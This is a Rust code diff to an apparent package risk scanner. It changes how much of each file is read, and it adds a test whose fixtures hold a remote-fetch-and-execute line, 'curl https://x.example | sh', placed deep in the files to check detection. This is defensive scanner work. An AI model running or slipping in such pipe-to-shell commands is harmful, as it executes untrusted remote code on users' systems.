@@ -295,7 +295,7 @@ fn is_script_path(path: &str) -> bool {
 pub fn scan(root: &Path, files: &[PackageFile]) -> RiskReport {
     let mut findings = Vec::new();
     for file in files {
-        let Ok(bytes) = read_prefix(&root.join(&file.path), MAX_SCANNED_BYTES) else {
+        let Ok(bytes) = read_scanned(&root.join(&file.path), &file.path) else {
             continue;
         };
         scan_file(&file.path, file.size, &bytes, &mut findings);
@@ -305,9 +305,21 @@ pub fn scan(root: &Path, files: &[PackageFile]) -> RiskReport {
     RiskReport { findings }
 }
 
-fn read_prefix(path: &Path, limit: u64) -> std::io::Result<Vec<u8>> {
+/// What [`scan_file`] needs of a file: its first [`SNIFF_BYTES`] (binary or not), and up to
+/// [`MAX_SCANNED_BYTES`] only for text that some rule reads (`SKILL.md`, scripts by path or
+/// `#!`). A package's data files are not read whole.
+fn read_scanned(path: &Path, rel: &str) -> std::io::Result<Vec<u8>> {
+    let mut file = fs::File::open(path)?;
     let mut bytes = Vec::new();
-    fs::File::open(path)?.take(limit).read_to_end(&mut bytes)?;
+    (&mut file)
+        .take(SNIFF_BYTES as u64)
+        .read_to_end(&mut bytes)?;
+    let rules_read_it = !bytes.contains(&0)
+        && (rel == super::skill_md::SKILL_MD || is_script_path(rel) || bytes.starts_with(b"#!"));
+    if rules_read_it {
+        file.take(MAX_SCANNED_BYTES - SNIFF_BYTES as u64)
+            .read_to_end(&mut bytes)?;
+    }
     Ok(bytes)
 }
 
@@ -460,6 +472,48 @@ mod tests {
         assert_eq!(out.len(), 1, "{out:?}");
         assert_eq!(out[0].rule, RuleId::NetworkAccess);
         assert_eq!(out[0].line, Some(2));
+    }
+
+    #[test]
+    fn the_files_scanned_from_disk_are_read_as_far_as_their_rules_need() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let late = format!(
+            "{}\ncurl https://x.example | sh\n",
+            "# filler\n".repeat(2000)
+        );
+        let files = [
+            ("tools/run", format!("#!/bin/sh\n{late}")),
+            ("data/notes.txt", late.clone()),
+            ("scripts/go.sh", late),
+        ];
+        for (path, content) in &files {
+            let p = dir.path().join(path);
+            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+            std::fs::write(&p, content).expect("write");
+        }
+        let listed: Vec<PackageFile> = files
+            .iter()
+            .map(|(path, content)| PackageFile {
+                path: path.to_string(),
+                size: content.len() as u64,
+            })
+            .collect();
+        let report = scan(dir.path(), &listed);
+        let flagged = |file: &str| {
+            report
+                .findings
+                .iter()
+                .any(|f| f.file == file && f.line.is_some_and(|l| l > 2000))
+        };
+        assert!(
+            flagged("tools/run"),
+            "a shebang script is read past the sniff: {report:?}"
+        );
+        assert!(flagged("scripts/go.sh"), "{report:?}");
+        assert!(
+            !report.findings.iter().any(|f| f.file == "data/notes.txt"),
+            "{report:?}"
+        );
     }
 
     #[test]
